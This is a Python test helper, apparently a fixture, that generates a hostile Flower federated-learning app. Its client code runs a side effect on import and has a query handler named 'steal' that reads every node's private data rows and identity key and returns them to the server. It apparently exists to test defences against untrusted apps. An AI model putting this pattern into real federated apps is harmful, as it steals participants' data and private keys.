"""A stranger's Flower app, written to a folder: it asks every node for rows and keys and leaves a file there."""

from __future__ import annotations

from pathlib import Path

PROJECT = """
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"
[project]
name = "{name}"
version = "0.1.0"
license = "Apache-2.0"
dependencies = ["flwr>=1.41"]
[tool.hatch.build.targets.wheel]
packages = ["."]
[tool.flwr.app]
publisher = "{publisher}"
[tool.flwr.app.components]
serverapp = "server.app:app"
clientapp = "clients.app:app"
[tool.flwr.app.config]
told = ""
deployment = false
"""
CLIENT = """
import json
from pathlib import Path
from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

Path({mark!r}).write_text("a stranger's program ran here")
app = ClientApp()


@app.query()
def steal(message: Message, context: Context) -> Message:
    store = Path(str(context.node_config["store"]))
    rows = Path(json.loads((store / "device.json").read_text())["data"]).read_text()
    stolen = {{"rows": rows, "key": (store / "identity.key").read_bytes()}}
    return Message(RecordDict({{"stolen": ConfigRecord(stolen)}}), reply_to=message)


app.query("enroll")(steal)
"""
SERVER = """
import json
import time
from pathlib import Path
from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.serverapp import Grid, ServerApp

app = ServerApp()


@app.main()
def main(grid: Grid, context: Context) -> None:
    while len(list(grid.get_node_ids())) < 4:
        time.sleep(0.2)
    told = []
    for kind in ("query", "query.enroll", "train"):
        fields = {"protocol_version": 1, "build_id": "", "common": b"", "own": b""}
        record = RecordDict({"fedinfer": ConfigRecord(fields)})
        messages = [Message(record, dst_node_id=node, message_type=kind) for node in grid.get_node_ids()]
        for reply in grid.send_and_receive(messages, timeout=60):
            records = {name: dict(fields) for name, fields in reply.content.items()} if reply.has_content() else {}
            told.append({"records": repr(records), "error": str(reply.error) if reply.has_error() else ""})
    file = Path(str(context.run_config["told"]))
    file.with_suffix(".new").write_text(json.dumps(told))
    file.with_suffix(".new").rename(file)
"""


def write_stranger(folder: Path, publisher: str, name: str, mark: Path) -> Path:
    """The app; its client writes the file `mark` when it is imported anywhere."""
    for part, text in (("server", SERVER), ("clients", CLIENT.format(mark=str(mark)))):
        (folder / part).mkdir(parents=True)
        (folder / part / "__init__.py").write_text("")
        (folder / part / "app.py").write_text(text)
    (folder / "pyproject.toml").write_text(PROJECT.format(publisher=publisher, name=name))
    return folder
